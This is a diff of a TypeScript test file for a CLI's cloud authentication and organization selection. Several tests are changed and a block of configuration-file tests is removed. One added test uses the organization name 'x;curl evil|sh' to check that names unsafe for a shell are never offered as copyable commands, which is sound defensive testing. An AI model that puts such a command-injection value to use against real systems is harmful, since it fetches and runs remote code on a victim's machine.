@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { chmodSync, lstatSync, readFileSync, statSync } from 'node:fs';
+import { statSync } from 'node:fs';
 import { join } from 'node:path';
 import { LOCAL_TOKEN } from '../../scripts/local-cloud/index.ts';
 import { newOrganization } from '../../scripts/local-cloud/store.ts';
@@ -20,7 +20,7 @@ describe('cloud auth', () => {
     cloudSession({ env }, async ({ succeed, requests, directory, read, cloud }) => {
       assert.match(
         await succeed(login, { input }),
-        /^✓ Logged in\. The token is stored in .*config\.json\n {2}Organization: acme\n$/,
+        /^✓ Logged in to http:\/\/127\.0\.0\.1:\d+\. The token is stored in .*config\.json\n {2}Organization: acme\n$/,
       );
       assert.deepEqual(requests(), ['GET /v1/organizations 200']);
       assert.deepEqual(JSON.parse(read(CONFIG)), { token: LOCAL_TOKEN, organization: 'acme', apiUrl: cloud.url });
@@ -56,7 +56,7 @@ describe('cloud auth', () => {
     'prints results as JSON',
     cloudSession({ env, cloud: two }, async ({ succeed, directory, cloud }) => {
       const config = join(directory, CONFIG);
-      const result = { organizations: ['acme', 'beta'], organization: null, config };
+      const result = { organizations: ['acme', 'beta'], organization: null, api_url: cloud.url, config };
       assert.deepEqual(JSON.parse(await succeed(`${login} --json`, { input })), result);
       assert.deepEqual(JSON.parse(await succeed('cloud organizations select beta --json')), { organization: 'beta' });
       assert.deepEqual(JSON.parse(await succeed('cloud auth whoami --json')), {
@@ -74,7 +74,12 @@ describe('cloud auth', () => {
   );
 
   const refusals: [line: string, input: string | undefined, code: 1 | 2, message: RegExp][] = [
-    ['cloud secrets list', undefined, 1, /^error: You aren't logged in\n.*botcli cloud auth login\n.*BOTCLI_TOKEN/],
+    [
+      'cloud secrets list',
+      undefined,
+      1,
+      /^error: You aren't logged in to http:.*\(from BOTCLI_API_URL\)\nRun: botcli cloud auth login\n.*BOTCLI_TOKEN/,
+    ],
     ['cloud auth whoami', undefined, 1, /You aren't logged in/],
     [
       'cloud auth login',
@@ -157,154 +162,39 @@ describe('the organization', () => {
       assert.equal((await run('cloud organizations list')).stderr, 'This account has no organizations.\n');
     }),
   );
-});
-
-describe('the configuration file', () => {
-  const config = JSON.stringify({ token: LOCAL_TOKEN, organization: 'acme', later: { kept: true } });
 
   it(
-    'is restricted to its owner, with a note',
-    cloudSession({ env, files: { [CONFIG]: config } }, async ({ directory, run }) => {
-      chmodSync(join(directory, CONFIG), 0o644);
-      const { code, stderr } = await run('cloud secrets list');
-      assert.equal(code, 0);
+    'can be selected with -o',
+    cloudSession({ env, cloud: two }, async ({ succeed, fail, read }) => {
+      await succeed(login, { input });
+      for (const line of ['select -o beta', 'select --organization=beta beta', 'select beta -o beta']) {
+        assert.match(await succeed(`cloud organizations ${line}`), /^✓ Selected organization beta/);
+        assert.equal(JSON.parse(read(CONFIG)).organization, 'beta');
+      }
       assert.match(
-        stderr,
-        /config\.json was readable by other users\. Now only you can read it\. Anyone who read it before has your token\./,
+        await fail(2, 'cloud organizations select acme -o beta'),
+        /^error: <name> and --organization differ\n/,
       );
-      assert.equal(mode(join(directory, CONFIG)), '600');
-      assert.doesNotMatch((await run('cloud secrets list')).stderr, /readable by other users/);
+      assert.match(await fail(1, 'cloud organizations select -o bta'), /Did you mean beta\?/);
     }),
   );
 
-  it(
-    'keeps unknown keys, and stays a symbolic link',
-    cloudSession(
-      { env, files: { 'real/there.json': config, [CONFIG]: '-> ../../real/there.json' } },
-      async ({ directory, succeed, read }) => {
-        await succeed('cloud organizations select acme');
-        assert(lstatSync(join(directory, CONFIG)).isSymbolicLink());
-        assert.deepEqual(JSON.parse(read('real/there.json')), JSON.parse(config));
-        assert.equal(mode(join(directory, 'real/there.json')), '600');
-      },
-    ),
-  );
-
-  it(
-    'is in the location that BOTCLI_CONFIG or XDG_CONFIG_HOME sets',
-    cloudSession({ env, files: { 'etc/x': '' } }, async ({ succeed, exists, directory, tree }) => {
-      await succeed(login, { input, env: { BOTCLI_CONFIG: 'mine.json' } });
-      await succeed(login, { input, env: { XDG_CONFIG_HOME: join(directory, 'etc') } });
-      await succeed(login, { input, env: { XDG_CONFIG_HOME: 'relative' } });
-      assert.deepEqual(Object.keys(tree()).sort(), [CONFIG, 'etc/botcli/config.json', 'etc/x', 'mine.json']);
-      assert(!exists('relative'));
-    }),
-  );
-
-  it(
-    "can't be written below a file, and says why",
-    cloudSession({ env, files: { 'notes.txt': '' } }, async ({ fail }) => {
-      assert.match(
-        await fail(1, login, { input, env: { BOTCLI_CONFIG: 'notes.txt/botcli/config.json' } }),
-        /config\.json can't be written: part of its path is not a directory\nSet BOTCLI_CONFIG to use another file/,
-      );
-    }),
-  );
-
-  it(
-    'keeps its permissions if it has no token',
-    cloudSession({ files: { [CONFIG]: '' } }, async ({ directory, run }) => {
-      chmodSync(join(directory, CONFIG), 0o644);
-      assert.equal((await run('cloud secrets list')).stderr, 'No secrets in organization acme.\n');
-    }),
-  );
-
-  const broken: [name: string, content: string, problem: string][] = [
-    ['invalid JSON', `{\n"token": "${SECRET}`, "it isn't valid JSON: it ends too soon"],
-    ['truncated JSON', `{\n"token": "${SECRET}",\n`, "it isn't valid JSON: it ends too soon"],
-    ['another format', `token = "${SECRET}"`, "it isn't valid JSON at line 1, column 2"],
-    ['an array', `["${SECRET}"]`, "it isn't a JSON object"],
-    ['a token that is not a string', `{"token": {"is": "${SECRET}"}}`, `"token" must be a non-empty string`],
+  const evil = 'x;curl evil|sh';
+  const offers: [names: string[], offer: string][] = [
+    [[evil, 'acme'], `Your organizations: ${evil}, acme. Select one: botcli cloud organizations select acme\n`],
+    [[evil, `${evil}2`], `Your organizations: ${evil}, ${evil}2. Select one: botcli cloud organizations select\n`],
+    [[evil], `Your organizations: ${evil}. Select one: botcli cloud organizations select\n`],
   ];
-  for (const [name, content, problem] of broken) {
-    const message = `config\\.json isn't a valid botcli config file: (?:${problem})`;
+  for (const [names, offer] of offers) {
     it(
-      `is refused and not quoted if it contains ${name}`,
-      cloudSession({ env, files: { [CONFIG]: content } }, async ({ fail, directory }) => {
-        assert.match(
-          await fail(2, 'cloud secrets list'),
-          new RegExp(`${message}\nFix it, or log in again to replace it: botcli cloud auth login\n$`),
-        );
-        assert.equal(readFileSync(join(directory, CONFIG), 'utf8'), content);
-      }),
-    );
-
-    it(
-      `with ${name} is replaced by logging in and cleared by logging out`,
-      cloudSession({ env, files: { [CONFIG]: content } }, async ({ run, read, write }) => {
-        const loggedIn = await run(login, { input });
-        assert.equal(loggedIn.code, 0);
-        assert.match(loggedIn.stderr, new RegExp(`${message}\\. It was replaced\\.\n$`));
-        assert.equal(JSON.parse(read(CONFIG)).token, LOCAL_TOKEN);
-        write(CONFIG, content);
-        const loggedOut = await run('cloud auth logout');
-        assert.match(loggedOut.stdout, /^✓ Logged out\. .*config\.json is empty now\n$/);
-        assert.match(loggedOut.stderr, new RegExp(`${message}\\. It was cleared\\.\n$`));
-        assert.equal(read(CONFIG), '{}\n');
-      }),
-    );
-
-    it(
-      `with ${name} is ignored if it is not needed`,
-      cloudSession({ files: { [CONFIG]: content } }, async ({ run, fail }) => {
-        const { code, stderr } = await run('cloud secrets list');
-        assert.equal(code, 0);
-        assert.match(
-          stderr,
-          new RegExp(`${message}\\. This command doesn't need it\\.\nNo secrets in organization acme\\.\n$`),
-        );
-        assert.equal((await run('cloud secrets list -o acme', { env: { BOTCLI_ORG: '' } })).code, 0);
-        assert.match(await fail(2, 'cloud secrets list', { env: { BOTCLI_ORG: '' } }), new RegExp(message));
-        assert.match(await fail(2, 'cloud organizations select acme'), new RegExp(message));
-      }),
+      `is only offered for copying if a shell takes it for a word: ${names.join(' and ')}`,
+      cloudSession(
+        { env, cloud: { accounts: { [LOCAL_TOKEN]: names.map(name => newOrganization(name)) } } },
+        async ({ run, read }) => {
+          assert.equal((await run(login, { input })).stderr, offer);
+          assert.equal(JSON.parse(read(CONFIG)).organization, undefined);
+        },
+      ),
     );
   }
-
-  it(
-    'is named if its organization is invalid, and the command line overrides it',
-    cloudSession({ env, files: { [CONFIG]: config.replace('acme', 'a/b') } }, async ({ fail, succeed }) => {
-      assert.match(
-        await fail(2, 'cloud secrets list'),
-        /The organization in .*config\.json isn't a valid name\n.*organizations select, or pass it with -o/,
-      );
-      await succeed('cloud secrets list -o acme');
-      await succeed('cloud secrets list', { env: { BOTCLI_ORG: 'acme' } });
-      await succeed('cloud auth whoami');
-      await succeed('cloud organizations select acme');
-      await succeed('cloud secrets list');
-    }),
-  );
-
-  it(
-    'is named if its address is invalid',
-    cloudSession(
-      { env: { ...env, BOTCLI_API_URL: '' }, files: { [CONFIG]: `{"token":"${LOCAL_TOKEN}","apiUrl":"http://x"}` } },
-      async ({ fail }) => {
-        assert.match(await fail(2, 'cloud secrets list'), /The API address in .*config\.json isn't valid\n/);
-      },
-    ),
-  );
-
-  it(
-    'must not be a directory or a device',
-    cloudSession({ env, files: { 'dir/x': '' } }, async ({ fail }) => {
-      for (const path of ['dir', '/dev/null']) {
-        assert.match(
-          await fail(2, login, { input, env: { BOTCLI_CONFIG: path } }),
-          /isn't a regular file\nMove it away, or set BOTCLI_CONFIG/,
-        );
-      }
-      assert(statSync('/dev/null').isCharacterDevice());
-    }),
-  );
 });
